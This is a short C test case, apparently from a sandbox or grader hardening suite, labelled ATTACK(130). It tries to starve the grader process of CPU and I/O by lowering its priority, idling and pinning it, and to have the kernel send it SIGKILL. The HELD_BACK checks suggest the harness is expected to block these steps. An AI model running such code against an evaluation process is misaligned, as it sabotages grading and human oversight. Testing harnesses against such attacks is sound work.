// Lowers the priority of all processes of its user, such as the grader, and makes the kernel send signals.
ATTACK(130)
{
    const int who_group = 2, who_user = 3, idle = 3 << 13; // constants of ioprio_set()
    struct sched_param lowest = {};
    cpu_set_t one;
    int ends[2];
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    HELD_BACK(setpriority(PRIO_USER, 0, 19) != 0);
    HELD_BACK(setpriority(PRIO_PGRP, 0, 19) != 0);
    HELD_BACK(setpriority(PRIO_PROCESS, getppid(), 19) != 0);
    HELD_BACK(syscall(SYS_ioprio_set, who_user, 0, idle) != 0);
    HELD_BACK(syscall(SYS_ioprio_set, who_group, 0, idle) != 0);
    HELD_BACK(pipe(ends) == 0);
    if (getppid() > 1) { // otherwise there are only our own processes
        HELD_BACK(sched_setaffinity(getppid(), sizeof one, &one) != 0);
        HELD_BACK(sched_setscheduler(getppid(), SCHED_IDLE, &lowest) != 0);
        HELD_BACK(fcntl(ends[0], F_SETOWN, getppid()) != 0);
        HELD_BACK(fcntl(ends[0], F_SETSIG, SIGKILL) != 0);
    }
    return honest(stage);
}
